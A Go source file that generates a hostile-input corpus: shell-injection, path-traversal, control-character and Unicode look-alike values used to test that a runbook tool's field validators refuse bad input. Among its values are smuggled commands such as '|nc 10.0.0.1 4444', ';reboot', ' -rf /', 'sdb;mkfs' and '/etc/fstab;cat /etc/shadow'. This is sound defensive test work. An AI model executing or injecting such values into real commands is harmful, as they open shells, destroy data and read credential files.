// Package hostile is the hostile-input corpus (issue 17): at least 50 hostile values for each
// kind of field a runbook takes, each of which must be refused with an error naming the field
// before any side effect (hostile_test.go).
package hostile

import (
	"fmt"
	"slices"
	"strings"
)

// Kinds of field the corpus covers.
const (
	Host     = "host"
	Device   = "device"
	Service  = "service"
	Path     = "path"
	Weight   = "weight"
	Duration = "duration"
	Text     = "free text"
	Chat     = "chat text"
)

// Kinds lists them in table order.
var Kinds = []string{Host, Device, Service, Path, Weight, Duration, Text, Chat}

// Shell metacharacters and command tricks, appended to, prepended to or replacing a valid value.
var shell = []string{";reboot", "&& id", "|nc 10.0.0.1 4444", "$(id)", "`id`", "${IFS}id", ">/etc/passwd",
	"<x", "'", "\"", "\\", "*", "?", "[a]", "{a,b}", "~root", "!!", "#", "&", " -rf /", "\tx", "\ny", "\r", "%0a"}

// Control characters, look-alike and invisible Unicode.
var unicodeTricks = []string{"\x00", "\x1b[2J", "\x7f", "\u0085", "\u009b", "\u200b", "\u202e", "\u2066", "\ufeff",
	"\u00a0", "\u3000", "\uff0e", "\u0430", "\u043e", "\u0455", "\u2010", "\u2215", "\ufe63"}

func dedupe(vs []string, valid string) []string {
	var out []string
	for _, v := range vs {
		if v != valid && !slices.Contains(out, v) {
			out = append(out, v)
		}
	}
	return out
}

// mutate builds hostile variants of a valid value.
func mutate(valid string) []string {
	var vs []string
	for _, s := range shell {
		vs = append(vs, valid+s, s+valid)
	}
	for _, u := range unicodeTricks {
		vs = append(vs, valid+u, u+valid, valid[:1]+u+valid[1:])
	}
	vs = append(vs, "", " ", "-"+valid, "--"+valid, "-oProxyCommand=id", "--help", " "+valid, valid+" ",
		strings.Repeat(valid, 300), strings.ToUpper(valid)+"\x00", "\xff\xfe"+valid, valid+"\xc0\xaf")
	return vs
}

// Values returns the hostile values of a kind (every one must be refused).
func Values(kind string) []string {
	switch kind {
	case Host:
		// Look-alikes: Cyrillic о and е, Greek ο, full-width digit; paths and URLs for a host.
		vs := append(mutate("compute1"), "cоmpute1", "computе1", "cοmpute1", "compute１", "compute1.", ".compute1",
			"compute1..example", "compute_1", "compute1/../x", "../compute1", "/etc/hosts", "http://compute1", "root@compute1",
			"compute1:22", "[::1]", "-compute1", "compute1-", strings.Repeat("a", 64)+".example", strings.Repeat("a.", 127)+"a")
		return dedupe(vs, "compute1")
	case Device:
		vs := append(mutate("sdb"), "/dev/sdb", "dev/sdb", "sdb/../sda", "../sda", "sdb1/", "SDB", "s", "1sdb", "sdb-1", "sdb.1",
			"sdb_1", "ѕdb", "sdb\u0131", strings.Repeat("s", 33))
		return dedupe(vs, "sdb")
	case Service:
		vs := append(mutate("nova-compute"), "../nova-compute", "nova-compute/../sshd", "/usr/lib/systemd/system/x",
			"Nova-Compute", "-nova", "nova compute", "nоva-compute", strings.Repeat("n", 65), "nova-compute.service;x")
		return dedupe(vs, "nova-compute")
	case Path:
		vs := append(slices.DeleteFunc(mutate("/etc/fstab"), func(v string) bool { return strings.HasPrefix(v, "/etc/fstab/etc/fstab") }), "/"+strings.Repeat("a", 4100), "etc/fstab", "/etc/../../host/etc/shadow", "/etc/./fstab", "//etc/fstab", "/etc/fstab/",
			"/", "/..", "/etc/fs\x00tab", "~/x", "/etc/fstab;cat /etc/shadow", "/proc/self/root/etc/shadow/..",
			"/"+strings.Repeat("a/", 2100), "\\etc\\fstab", "/etc/fstab\u2044x", "C:/etc")
		return dedupe(vs, "/etc/fstab")
	case Weight:
		vs := append(mutate("100"), "-1", "-0", "1e9", "1e2", "NaN", "Inf", "+100", "0x10", "100.1234567", "1,5", "１００",
			"1000000000", "99999999999", ".5", "5.", "100..0", "1_000", "100%", "٣", "1/2", "0b1")
		return dedupe(vs, "100")
	case Duration:
		vs := append(slices.DeleteFunc(mutate("30m"), func(v string) bool { return strings.HasPrefix(v, "30m30m") }), strings.Repeat("9", 300)+"h", "-30m", "-1ns", "8d", "30d", "999999h", "1y", "30 m", "30M", "m30", "30mm", "1h-1m",
			"1.5.5h", "0x1h", "9223372036854775808ns", "1e3h", "30мин", "三十m", "½h", "NaNm", "Infh")
		return dedupe(vs, "30m")
	case Text:
		var vs []string
		for c := 0; c < 0x20; c++ {
			if c != '\t' {
				vs = append(vs, fmt.Sprintf("disk died%cnow", c))
			}
		}
		for c := 0x7f; c < 0xa0; c++ {
			vs = append(vs, fmt.Sprintf("disk died%cnow", rune(c)))
		}
		for _, c := range []rune{0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c} {
			vs = append(vs, fmt.Sprintf("disk died%cnow", c))
		}
		vs = append(vs, "disk died\xff", "\xc0\xafdisk", strings.Repeat("x", 501), strings.Repeat("é", 501))
		return dedupe(vs, "")
	case Chat:
		// Whole command lines from chat: hostile arguments, unterminated quotes, control bytes.
		var vs []string
		for _, h := range Values(Host) {
			if !strings.ContainsAny(h, "\"'“‘„") && strings.TrimSpace(h) != "" && !strings.ContainsFunc(h, isSpace) {
				vs = append(vs, "restart-service "+h+" nova-compute a reason")
			}
		}
		vs = append(vs, `restart-service "compute1 nova-compute`, "restart-service 'compute1", "restart-service “compute1",
			"restart-service compute1 nova-compute\x1b[2J", "restart-service compute1 nova-compute \u202eevil",
			"swift-disk storage1 /dev/sdb", "swift-disk storage1 sdb;mkfs", "evacuate compute1 --to compute1;reboot r",
			"restart-service --host=compute1;id --service nova-compute r")
		return dedupe(vs, "")
	}
	panic("hostile: unknown kind " + kind)
}

func isSpace(r rune) bool {
	return r == ' ' || r == '\t' || r == '\n' || r == '\r' || r == '\u00a0' || r == '\u3000' || r == '\u0085' || r == '\v' || r == '\f'
}
